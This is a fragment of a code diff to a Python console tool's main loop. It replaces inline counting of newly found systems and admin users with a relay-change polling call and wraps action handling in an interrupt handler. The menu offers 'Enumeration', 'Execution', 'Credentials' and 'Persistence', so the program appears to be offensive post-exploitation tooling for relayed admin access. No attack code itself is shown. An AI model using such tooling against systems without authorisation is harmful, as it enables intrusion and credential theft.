-            new_admin_users = set(entry[2] for entry in new_true_lines if entry[3] == 'TRUE')
-
-            # Compare with existing systems and users
-            existing_systems = set(entry[1] for entry in true_lines)
-            existing_users = set(entry[2] for entry in true_lines)
-
-            actual_new_systems = new_systems - existing_systems
-            actual_new_admin_systems = new_admin_systems - existing_systems
-            new_users_for_existing_systems = {entry[2] for entry in new_true_lines if entry[1] in existing_systems and entry[2] not in existing_users}
-
-            print(f"\033[1;34mNew systems detected\033[0m: \033[1m{len(actual_new_systems)}\033[0m (\033[1;33m{len(actual_new_admin_systems)} with admin\033[0m)")
-            print(f"\033[1;34mNew users detected\033[0m: \033[1m{len(new_users_for_existing_systems)}\033[0m (\033[1;33m{len(new_admin_users & new_users_for_existing_systems)} with admin\033[0m)")
-            true_lines.extend(new_true_lines)
+        # Apply relay changes published by the poller since the last render
+        apply_relay_changes(poller, engagement)
 
         categories = ["Enumeration", "Execution", "Credentials", "Persistence"]
-        display_menu("Main Menu", categories, cache_actions, set(entry[1] for entry in true_lines if entry[3] == 'TRUE'), back_option=False)
+        display_menu("Main Menu", categories, action_cache, set(relays.admin_systems), back_option=False)
 
         selection = input("> ").strip().lower()
         
@@ -443,7 +2205,10 @@ def main():
         if selection.isdigit():
             selection = int(selection)
             if 0 < selection <= len(categories):
-                handle_action_selection(categories[selection - 1], true_lines, cache_file, cache_actions, args)
+                try:
+                    handle_action_selection(categories[selection - 1], engagement)
+                except KeyboardInterrupt:
+                    print("\nAction cancelled.")
             else:
                 print("Invalid selection. Please try again.")
         else: